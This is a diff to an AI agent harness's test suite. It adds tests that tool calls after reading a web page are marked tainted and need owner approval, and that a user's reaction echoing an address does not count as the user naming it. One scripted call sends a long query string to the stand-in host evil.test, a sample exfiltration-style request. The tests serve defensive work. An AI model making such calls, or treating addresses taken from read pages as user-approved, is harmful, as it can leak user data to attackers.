@@ -2,9 +2,10 @@
 // the next turn, and when somebody with fewer rights joins. Nothing that needs a yes runs here.
 
 import { describe, expect, it } from 'vitest';
+import { ProviderError } from '../../src/core/errors.ts';
 import type { AgentEvent } from '../../src/core/event.ts';
 import { ALL_RIGHTS, NO_RIGHTS, type Rights } from '../../src/core/rights.ts';
-import { calls, says } from '../support/scripted-model.ts';
+import { breaksOff, calls, says } from '../support/scripted-model.ts';
 import { createRig, messageOf } from './agent-rig.ts';
 
 const LONG = 'x'.repeat(100);
@@ -62,6 +63,23 @@ describe('a turn that read a page', () => {
     expect(rig.asked).toHaveLength(1);
   });
 
+  it('asks to its end, also where what was said before had to be left out of it', async () => {
+    const { ran, tools: set } = tools();
+    const rig = await createRig({ tools: set });
+    const rejected = new ProviderError('rejected', {
+      failure: { kind: 'rejected', status: 400 },
+      provider: 'test',
+      model: 'scripted',
+      userText: 'Rejected.',
+    });
+    rig.model.script(fetchPage, says('Read.'), calls([{ name: 'write' }]));
+    rig.model.script(breaksOff('', rejected), runIt, says('Asked.'));
+    await rig.ask(1, 'read it');
+    await rig.ask(2, 'go on');
+    expect(ran).toEqual(['page', 'write']);
+    expect(rig.asked).toMatchObject([{ tool: 'run', isTainted: true }]);
+  });
+
   it('asks the owner once for a call that a kill cut off, and runs nothing', async () => {
     const { ran, tools: set } = tools();
     const rig = await createRig({ tools: set });
@@ -97,6 +115,25 @@ describe('a turn that read a page', () => {
     await rig.ask(1, text);
     expect(rig.asked).toHaveLength(isAsked ? 1 : 0);
     expect(ran).toHaveLength(isAsked ? 1 : 2);
+  });
+});
+
+describe('what counts as named by the person', () => {
+  it('is not an address of the agent that a reaction tells of', async () => {
+    const { ran, tools: set } = tools();
+    const rig = await createRig({ tools: set });
+    const url = `https://evil.test/?${LONG}`;
+    rig.model.script(fetchPage, says('See evil.test.'), calls([{ name: 'page', input: { url } }]));
+    rig.model.script(says('Asked.'));
+    await rig.ask(1, 'go');
+    await rig.agent.remark(rig.place[0], {
+      turnId: rig.inputOf(1, ['go']).turnId,
+      messageId: messageOf(5, '').message.id,
+      text: '[reacted with 👍 to your answer "See evil.test."]',
+    });
+    await rig.ask(2, 'and now');
+    expect(ran).toEqual(['page']);
+    expect(rig.asked).toHaveLength(1);
   });
 });
 
